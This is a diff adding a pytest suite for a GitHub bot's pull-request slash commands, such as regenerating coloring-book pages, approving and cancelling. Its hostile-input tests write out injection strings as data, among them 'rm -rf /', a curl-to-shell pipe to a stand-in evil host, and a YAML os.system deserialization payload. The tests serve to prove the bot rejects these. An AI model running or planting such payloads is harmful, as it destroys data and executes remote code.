@@ -1,0 +1,279 @@
+"""Slash commands on the draft PR, with real `issue_comment` payloads against the fake
+GitHub: /regenerate, /cover, /approve, /cancel, /help; permission; hostile comments."""
+
+from __future__ import annotations
+
+import copy
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+import responses
+import yaml
+
+from bot.checklist import Progress, parse_checklist, pr_body
+from bot.cli import main
+from bot.commands import CommandError, apply, parse
+from bot.events import parse_trigger
+from bot.github_repo import GitHubRepo
+from bot.review import handle_command
+from bot.spec import load_spec, parse_spec
+from tests.conftest import minimal_spec
+from tests.fake_github import FakeGitHub
+
+WEBHOOKS = Path(__file__).parent / "fixtures" / "webhooks"
+TOKEN = "ghs_fake_token_value_123456"
+ISSUE, PR = 7, 8
+BRANCH = f"ebook-generation-{ISSUE}"
+SPEC_PATH = f"specs/ebook-{ISSUE}.yaml"
+SUBJECTS = ["mandala", "maze", "stars", "shapes"]
+
+
+def comment(body: str, sender: str = "Codertocat", number: int = PR) -> dict[str, Any]:
+    """GitHub's issue_comment.created example, on a pull request (as GitHub sends it)."""
+    data = copy.deepcopy(json.loads((WEBHOOKS / "issue_comment.created.json").read_text()))
+    data["issue"]["number"] = number
+    data["issue"]["pull_request"] = {
+        "url": f"https://api.github.com/repos/Codertocat/Hello-World/pulls/{number}",
+        "html_url": f"https://github.com/Codertocat/Hello-World/pull/{number}",
+    }
+    data["comment"]["body"] = body
+    data["sender"]["login"] = sender
+    return data
+
+
+@pytest.fixture
+def fake() -> Any:
+    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
+        gh = FakeGitHub(rsps)
+        gh.permissions["Codertocat"] = "write"
+        gh.refs[BRANCH] = "0" * 40
+        spec = parse_spec(minimal_spec(trim="6x9", pages={"subjects": SUBJECTS}))
+        gh.files[(BRANCH, SPEC_PATH)] = spec.to_yaml().encode()
+        gh.pulls[PR] = {
+            "state": "open",
+            "draft": True,
+            "title": "Coloring book: Test Book",
+            "body": pr_body(ISSUE, Progress(done=frozenset({"spec", "cover"}))),
+            "head": BRANCH,
+            "base": "main",
+        }
+        yield gh
+        assert gh.problems == []
+
+
+def run(fake: FakeGitHub, body: str, sender: str = "Codertocat", **kwargs: Any) -> Any:
+    repo = GitHubRepo(
+        TOKEN, fake.repo, api_url=fake.base, sleep=lambda s: None, seconds_between_writes=None
+    )
+    trigger = parse_trigger("issue_comment", comment(body, sender, **kwargs))
+    return handle_command(trigger, repo, run_url="https://github.com/x/y/actions/runs/1")
+
+
+def spec_on_branch(fake: FakeGitHub) -> Any:
+    return parse_spec(yaml.safe_load(fake.files[(BRANCH, SPEC_PATH)]))
+
+
+def replies(fake: FakeGitHub) -> list[str]:
+    return [c["body"] for c in fake.comments.values()]
+
+
+COMMENT_ID = 492700400
+
+
+def test_slash_regenerate_pages_commits_the_spec_and_starts_generation(fake: FakeGitHub) -> None:
+    result = run(fake, "/regenerate 2 3")
+    assert result.outcome == "regenerating"
+    spec = spec_on_branch(fake)
+    assert {n: o.variant for n, o in spec.pages.overrides.items()} == {2: 1, 3: 1}
+    assert spec.page_subjects() == SUBJECTS  # subjects unchanged, only new seeds
+    assert fake.messages[-1].startswith("Regenerate pages 2, 3 (asked by @Codertocat in #8)")
+    assert fake.dispatches[-1] == {
+        "event_type": "generate-ebook",
+        "client_payload": {"issue_number": ISSUE, "pull_number": PR, "comment_id": COMMENT_ID},
+    }
+    assert fake.reactions == [(COMMENT_ID, "eyes")]  # 🚀 comes when the book is remade
+    assert replies(fake) == []
+
+
+def test_slash_regenerate_with_a_subject_writes_it_into_the_spec(fake: FakeGitHub) -> None:
+    run(fake, "/regenerate 2 subject: ein schlafender Fuchs 🦊")
+    spec = spec_on_branch(fake)
+    assert spec.page_subjects()[1] == "ein schlafender Fuchs 🦊"
+    assert spec.pages.overrides[2].variant == 1
+
+
+def test_regenerate_again_draws_another_seed() -> None:
+    spec = parse_spec(minimal_spec(pages={"subjects": SUBJECTS}))
+    once = apply(spec, parse("/regenerate 3"))
+    twice = apply(once, parse("/regenerate 3"))
+    assert twice.pages.overrides[3].variant == 2
+    assert parse_spec(yaml.safe_load(twice.to_yaml())) == twice  # the branch explains the book
+
+
+def test_regenerate_remakes_only_the_named_pages(tmp_path: Path) -> None:
+    """The ledger regenerates just the pages the command names; the PDFs are reassembled."""
+    spec_file = tmp_path / "book.yaml"
+    spec_file.write_text(
+        parse_spec(minimal_spec(trim="6x9", pages={"subjects": SUBJECTS})).to_yaml()
+    )
+    out = tmp_path / "out"
+    assert main(["build", str(spec_file), "--out", str(out)]) == 0
+    before = {p.name: p.read_bytes() for p in (out / "pages").glob("*.png")}
+    pdf_before = (out / "interior.pdf").read_bytes()
+    spec_file.write_text(apply(load_spec(spec_file), parse("/regenerate 3")).to_yaml())
+    assert main(["build", str(spec_file), "--out", str(out)]) == 0
+    after = {p.name: p.read_bytes() for p in (out / "pages").glob("*.png")}
+    assert sorted(n for n in before if before[n] != after[n]) == ["003.png"]
+    assert (out / "interior.pdf").read_bytes() != pdf_before
+
+
+def test_slash_cover_asks_for_a_new_cover(fake: FakeGitHub) -> None:
+    run(fake, "/cover")
+    assert spec_on_branch(fake).cover.variant == 1
+    assert fake.messages[-1].startswith("Regenerate a new cover")
+    assert fake.dispatches[-1]["event_type"] == "generate-ebook"
+
+
+def test_slash_approve_marks_the_pr_ready(fake: FakeGitHub) -> None:
+    result = run(fake, "/approve")
+    assert result.outcome == "approved"
+    assert fake.pulls[PR]["draft"] is False
+    assert fake.graphql[0]["variables"] == {"id": f"PR_node{PR}"}
+    assert fake.reactions == [(COMMENT_ID, "eyes"), (COMMENT_ID, "rocket")]
+
+
+def test_slash_cancel_cancels_this_books_runs_only(fake: FakeGitHub) -> None:
+    fake.runs = {
+        101: {
+            "workflow": "ebook-book.yml",
+            "display_title": "ebook book #7",
+            "status": "in_progress",
+        },
+        102: {
+            "workflow": "ebook-book.yml",
+            "display_title": "ebook book #9",
+            "status": "in_progress",
+        },
+        103: {"workflow": "ebook-book.yml", "display_title": "ebook book #7", "status": "queued"},
+    }
+    assert run(fake, "/cancel").outcome == "cancelled"
+    assert fake.cancelled == [101, 103]
+    body = fake.pulls[PR]["body"]
+    assert "Generation cancelled by @Codertocat" in body
+    assert parse_checklist(body).done == {"spec", "cover"}  # the ticks are kept
+    assert fake.reactions[-1] == (COMMENT_ID, "rocket")
+
+
+def test_slash_cancel_with_nothing_running_says_so(fake: FakeGitHub) -> None:
+    assert run(fake, "/cancel").outcome == "invalid"
+    assert replies(fake) == ["Nothing is being generated for this book right now."]
+    assert fake.reactions[-1] == (COMMENT_ID, "confused")
+
+
+def test_slash_help_and_unknown_command_reply_with_the_help(fake: FakeGitHub) -> None:
+    run(fake, "/help")
+    run(fake, "/frobnicate 3")
+    first, second = replies(fake)
+    assert "/regenerate 3 7" in first
+    assert second.startswith("I don't know `/frobnicate`.") and "/regenerate 3 7" in second
+
+
+def test_command_from_someone_without_write_access_is_refused(fake: FakeGitHub) -> None:
+    before = fake.files[(BRANCH, SPEC_PATH)]
+    assert run(fake, "/regenerate 2", sender="stranger").outcome == "unauthorized"
+    assert "only people with write access" in replies(fake)[0]
+    assert fake.reactions == [] and fake.dispatches == []
+    assert fake.files[(BRANCH, SPEC_PATH)] == before
+
+
+@pytest.mark.parametrize(
+    ("body", "reply"),
+    [
+        ("/regenerate 0", "page 0 is not in this book (pages 1 to 4)"),
+        ("/regenerate 1000000000", "page 1000000000 is not in this book"),
+        ("/regenerate " + " ".join(str(i) for i in range(1, 1001)), "at most 50 pages"),
+        ("/regenerate 1-100000", "at most 50 pages"),
+        ("/regenerate 3; rm -rf /", "`3;` is not a page number"),
+        ("/regenerate $(curl evil.example | sh)", "is not a page number"),
+        ("/regenerate 2 3 subject: fox", "a new subject is for one page"),
+        ("/regenerate 2 subject: " + "a" * 400, "at most 300 characters"),
+        ("/regenerate 2 subject:   ", "the new subject is empty"),
+        ("/regenerate 2 subject: a\x1b[31mfox", "control characters"),
+        ("/regenerate @everyone", "`@\u200beveryone` is not a page number"),
+        ("/approve now please", "`/approve` takes nothing after it"),
+        ("/regenerate 1 " + "x" * 60_000, "is 60,014 characters long"),
+        ("/" + "ä" * 20, "is not a command"),
+    ],
+)
+def test_hostile_command_gets_one_clear_refusal_and_changes_nothing(
+    fake: FakeGitHub, body: str, reply: str
+) -> None:
+    before = fake.files[(BRANCH, SPEC_PATH)]
+    assert run(fake, body).outcome == "invalid"
+    [answer] = replies(fake)
+    assert reply in answer
+    assert len(answer) < 300 and "@everyone" not in answer
+    assert fake.files[(BRANCH, SPEC_PATH)] == before
+    assert fake.dispatches == [] and fake.commits == []
+    assert fake.reactions == [(COMMENT_ID, "eyes"), (COMMENT_ID, "confused")]
+
+
+def test_subject_that_looks_like_yaml_or_shell_is_kept_as_plain_text(fake: FakeGitHub) -> None:
+    run(fake, "/regenerate 1 subject: !!python/object/apply:os.system ['id'] `whoami`")
+    text = fake.files[(BRANCH, SPEC_PATH)].decode()
+    spec = spec_on_branch(fake)
+    assert spec.page_subjects()[0] == "!!python/object/apply:os.system ['id'] `whoami`"
+    assert "!!python" not in text.split("subjects")[0] or "'!!python" in text  # quoted
+
+
+@pytest.mark.parametrize("body", ["Looks great!", "thanks /regenerate 2", "@everyone /cancel", ""])
+def test_ordinary_comments_are_not_commands(fake: FakeGitHub, body: str) -> None:
+    assert run(fake, body).outcome == "ignored"
+    assert fake.reactions == [] and replies(fake) == []
+
+
+def test_command_on_a_pr_that_is_not_a_book_is_ignored(fake: FakeGitHub) -> None:
+    fake.pulls[20] = {
+        "state": "open",
+        "draft": False,
+        "title": "x",
+        "body": "",
+        "head": "feature-x",
+        "base": "main",
+    }
+    assert run(fake, "/approve", number=20).outcome == "ignored"
+    assert fake.reactions == [] and fake.graphql == []
+
+
+def test_command_comment_from_a_bot_and_edits_are_ignored(fake: FakeGitHub) -> None:
+    assert run(fake, "/approve", sender="github-actions[bot]").outcome == "ignored"
+    edited = json.loads((WEBHOOKS / "issue_comment.edited.json").read_text())
+    assert parse_trigger("issue_comment", edited).kind == "ignore"
+    plain = json.loads((WEBHOOKS / "issue_comment.created.json").read_text())
+    assert parse_trigger("issue_comment", plain).kind == "ignore"  # an issue, not a PR
+
+
+def test_handle_command_cli_with_a_real_event_file(
+    fake: FakeGitHub,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    event = tmp_path / "event.json"
+    event.write_text(json.dumps(comment("/regenerate 4")))
+    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
+    monkeypatch.setenv("GITHUB_REPOSITORY", fake.repo)
+    monkeypatch.setenv("GITHUB_API_URL", fake.base)
+    code = main(["handle-command", "--event", str(event), "--event-name", "issue_comment"])
+    assert code == 0
+    assert "regenerating: pages 4" in capsys.readouterr().out
+    assert spec_on_branch(fake).pages.overrides[4].variant == 1
+
+
+def test_command_parser_names() -> None:
+    assert parse("/regenerate 3-5, 7").pages == (3, 4, 5, 7)
+    assert parse("  /Regenerate 2  ").name == "regenerate"
+    with pytest.raises(CommandError):
+        parse("/regenerate")
